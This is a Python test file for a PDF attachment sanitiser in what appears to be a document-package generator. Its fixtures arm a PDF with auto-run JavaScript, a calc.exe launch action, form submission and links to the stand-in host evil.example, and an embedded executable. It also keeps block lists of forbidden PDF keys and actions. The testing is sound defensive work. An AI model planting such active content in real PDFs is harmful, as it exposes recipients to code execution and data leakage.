"""Attachments carrying active content: what reaches the submission package is only what prints.

Each fixture is the example's own agreement PDF armed with one kind of active content (built with
pikepdf); the sanitised copy, and the package a real build makes, are read back object by object.
"""

from __future__ import annotations

import json
from pathlib import Path

import pikepdf
import pytest
from conftest import ContentCopy
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

from generator.content.attachments import AttachmentProblem, active_content, sanitise_pdf

SOURCE = Path(__file__).resolve().parent.parent / "content/附件/合作协议.pdf"

#: Keys and action types that must not survive anywhere in a sanitised file.
FORBIDDEN_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/AcroForm", "/XFA", "/EmbeddedFiles", "/EF", "/RichMediaContent", "/3DD"}
FORBIDDEN_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"}
FORBIDDEN_ANNOTS = {"/Widget", "/FileAttachment", "/RichMedia", "/3D", "/Sound", "/Movie", "/Screen"}


def _js(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('pwned')")))


def _annot(pdf: pikepdf.Pdf, page: pikepdf.Page, **entries: object) -> pikepdf.Object:
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([50, 50, 200, 100]), P=page.obj, **entries))
    if "/Annots" not in page.obj:
        page.obj.Annots = Array()
    page.obj.Annots.append(annot)
    return annot


def _widget_form(pdf: pikepdf.Pdf, page: pikepdf.Page, xfa: bool = False) -> None:
    appearance = pdf.make_stream(b"0 0 1 rg 0 0 150 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 150, 50]))
    field = _annot(
        pdf, page, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("x"),
        AP=Dictionary(N=appearance), F=4,
        AA=Dictionary(K=_js(pdf)),
    )
    form = Dictionary(Fields=Array([field]))
    if xfa:
        form.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = form


def _arm(kind: str, pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    if kind == "open-js":
        pdf.Root.OpenAction = _js(pdf)
    elif kind == "names-js":
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), _js(pdf)])))
    elif kind == "launch":
        _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))
    elif kind == "uri":
        _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil.example/")))
    elif kind == "gotor":
        _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])))
    elif kind == "doc-aa":
        pdf.Root.AA = Dictionary(WC=_js(pdf))
    elif kind == "page-aa":
        page.obj.AA = Dictionary(O=_js(pdf))
    elif kind == "annot-aa":
        _annot(pdf, page, Subtype=Name.Square, AA=Dictionary(E=_js(pdf)))
    elif kind == "acroform":
        _widget_form(pdf, page)
    elif kind == "xfa":
        _widget_form(pdf, page, xfa=True)
    elif kind == "submit":
        _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))
    elif kind == "embedded":
        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ"))))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), spec])))
        _annot(pdf, page, Subtype=Name.FileAttachment, FS=spec)
    elif kind == "richmedia":
        _annot(pdf, page, Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    elif kind == "outline-js":
        with pdf.open_outline() as outline:
            item = pikepdf.OutlineItem("书签", 0)
            outline.root.append(item)
        pdf.Root.Outlines.First.A = _js(pdf)
    elif kind == "hidden-parent":
        # a popup pointing up to an annotation that is on no page, carrying the script
        hidden = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, AA=Dictionary(O=_js(pdf))))
        _annot(pdf, page, Subtype=Name.Popup, Parent=hidden)
    else:
        raise AssertionError(kind)


KINDS = ("open-js", "names-js", "launch", "uri", "gotor", "doc-aa", "page-aa", "annot-aa", "acroform", "xfa", "submit", "embedded", "richmedia", "outline-js", "hidden-parent")


def armed_pdf(dest: Path, kind: str, **save: object) -> Path:
    """The example agreement with one kind of active content, saved at `dest`."""
    with pikepdf.open(SOURCE) as pdf:
        _arm(kind, pdf)
        pdf.save(dest, **save)
    return dest


def active_names(data: bytes) -> set[str]:
    """Every forbidden key, action type and annotation kind found in any object of the file."""
    found: set[str] = set()
    with pikepdf.open(__import__("io").BytesIO(data)) as pdf:
        assert "/Encrypt" not in pdf.trailer
        for obj in pdf.objects:
            if isinstance(obj, (Dictionary, pikepdf.Stream)):  # noqa: UP038
                found |= {k for k in obj.keys() if k in FORBIDDEN_KEYS}  # noqa: SIM118
                if str(obj.get("/S", "")) in FORBIDDEN_ACTIONS:
                    found.add(str(obj["/S"]))
                if str(obj.get("/Subtype", "")) in FORBIDDEN_ANNOTS:
                    found.add(str(obj["/Subtype"]))
                for value in obj.values():
                    if isinstance(value, Dictionary):
                        found |= {k for k in value.keys() if k in FORBIDDEN_KEYS}  # noqa: SIM118
                        if str(value.get("/S", "")) in FORBIDDEN_ACTIONS:
                            found.add(str(value["/S"]))
    return found


def _page_text(data: bytes | Path) -> str:
    reader = PdfReader(__import__("io").BytesIO(data) if isinstance(data, bytes) else data)
    return "".join(p.extract_text() for p in reader.pages)


@pytest.mark.parametrize("kind", KINDS)
def test_sanitising_removes_each_kind_and_keeps_the_page(tmp_path: Path, kind: str) -> None:
    armed = armed_pdf(tmp_path / f"{kind}.pdf", kind)
    assert active_names(armed.read_bytes()), "the fixture must carry active content"
    result = sanitise_pdf(armed)
    assert active_names(result.data) == set()
    assert result.removed, "the report must say what was removed"
    assert active_content(armed) == result.removed
    text = _page_text(SOURCE)
    assert text.strip() and text == _page_text(result.data)[: len(text)]
    if kind not in ("acroform", "xfa"):
        # nothing was flattened into the page: its content stream is the original's, byte for byte
        with pikepdf.open(SOURCE) as before, pikepdf.open(__import__("io").BytesIO(result.data)) as after:
            assert before.pages[0].Contents.read_bytes() == after.pages[0].Contents.read_bytes()


def test_form_fields_are_flattened_into_the_page(tmp_path: Path) -> None:
    result = sanitise_pdf(armed_pdf(tmp_path / "form.pdf", "acroform"))
    with pikepdf.open(__import__("io").BytesIO(result.data)) as pdf:
        page = pdf.pages[0]
        assert "/Annots" not in page.obj or len(page.obj.Annots) == 0
        # the field's blue box now draws as part of the page
        xobjects = page.obj.Resources.get("/XObject", Dictionary())
        drawn = b"".join(x.read_bytes() for x in xobjects.values() if isinstance(x, pikepdf.Stream))
        assert b"0 0 1 rg" in drawn
    assert any("表单" in r for r in result.removed)


def test_internal_links_and_passive_notes_stay(tmp_path: Path) -> None:
    with pikepdf.open(SOURCE) as pdf:
        page = pdf.pages[0]
        _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])))
        _annot(pdf, page, Subtype=Name.Text, Contents=String("批注"))
        pdf.save(tmp_path / "ok.pdf")
    result = sanitise_pdf(tmp_path / "ok.pdf")
    assert result.removed == ()
    with pikepdf.open(__import__("io").BytesIO(result.data)) as pdf:
        assert sorted(str(a.Subtype) for a in pdf.pages[0].Annots) == ["/Link", "/Text"]


def test_owner_password_only_and_aes_open_and_lose_their_encryption(tmp_path: Path) -> None:
    for aes, r in ((True, 4), (True, 6), (False, 3)):
        restricted = pikepdf.Permissions(extract=False, print_highres=False)
        encryption = pikepdf.Encryption(owner="secret", user="", aes=aes, R=r, allow=restricted, metadata=r >= 4)
        path = armed_pdf(tmp_path / f"owner-{r}.pdf", "uri", encryption=encryption)
        result = sanitise_pdf(path)
        assert active_names(result.data) == set()  # also: no /Encrypt in the trailer
        assert _page_text(result.data).startswith(_page_text(SOURCE).strip()[:20])


def test_user_password_damaged_and_empty_pdfs_are_refused_with_a_reason(tmp_path: Path) -> None:
    locked = armed_pdf(tmp_path / "locked.pdf", "uri", encryption=pikepdf.Encryption(owner="o", user="u", aes=True, R=6))
    with pytest.raises(AttachmentProblem, match="打开密码"):
        sanitise_pdf(locked)
    data = SOURCE.read_bytes()
    (tmp_path / "cut.pdf").write_bytes(data[: len(data) // 2])
    with pytest.raises(AttachmentProblem, match="已损坏或不完整"):
        sanitise_pdf(tmp_path / "cut.pdf")
    (tmp_path / "junk.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40)
    with pytest.raises(AttachmentProblem, match="已损坏或不完整"):
        sanitise_pdf(tmp_path / "junk.pdf")


def _list_attachments(root: Path, files: list[str]) -> None:
    lines = ["附件:"] + [f"  - 名称: 附件{n}\n    文件: {f}" for n, f in enumerate(files, start=1)]
    (root / "附件/清单.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_check_warns_what_each_attachment_will_lose(content_copy: ContentCopy) -> None:
    from generator.check.validate import check_content

    root = content_copy()
    armed_pdf(root / "附件/脚本.pdf", "open-js")
    armed_pdf(root / "附件/表单.pdf", "xfa")
    _list_attachments(root, ["脚本.pdf", "表单.pdf", "合作协议.pdf"])
    report, _app = check_content(root)
    assert report.exit_code == 0, [d.render() for d in report.errors]
    warned = {d.location.line: d.message for d in report.warnings if d.code == "attachment-sanitised"}
    assert sorted(warned) == [3, 5]  # the two armed files, each at its own line; not the clean one
    assert "脚本.pdf" in warned[3] and "JavaScript 脚本" in warned[3]
    assert "表单.pdf" in warned[5] and "XFA 表单" in warned[5]


@pytest.mark.libreoffice
def test_the_package_carries_no_active_content_from_any_attachment(content_copy: ContentCopy, tmp_path: Path, libreoffice: Path) -> None:
    from generator.pipeline import build

    root = content_copy()
    files = []
    for kind in KINDS:
        armed_pdf(root / f"附件/{kind}.pdf", kind)
        files.append(f"{kind}.pdf")
    armed_pdf(root / "附件/owner.pdf", "launch", encryption=pikepdf.Encryption(owner="secret", user="", aes=True, R=6))
    files.append("owner.pdf")
    _list_attachments(root, files)
    out = tmp_path / "out"
    result = build(root, out, pdf=True)
    assert result.package is not None, result.package_skipped_reason
    data = result.package.read_bytes()
    assert active_names(data) == set()
    reader = PdfReader(result.package)
    plan_pages, rec_pages = (r.pages for r in result.documents if r.doc.id != "self_assessment")  # not packaged by default
    assert len(reader.pages) == plan_pages + rec_pages + len(files)
    original = _page_text(SOURCE)
    for n in range(len(files)):
        assert reader.pages[plan_pages + rec_pages + n].extract_text().startswith(original.strip()[:20])
    report = json.loads((out / "检查报告.json").read_text(encoding="utf-8"))
    sanitised = [d for d in report["diagnostics"] if d["code"] == "attachment-sanitised"]
    assert len(sanitised) == len(files)
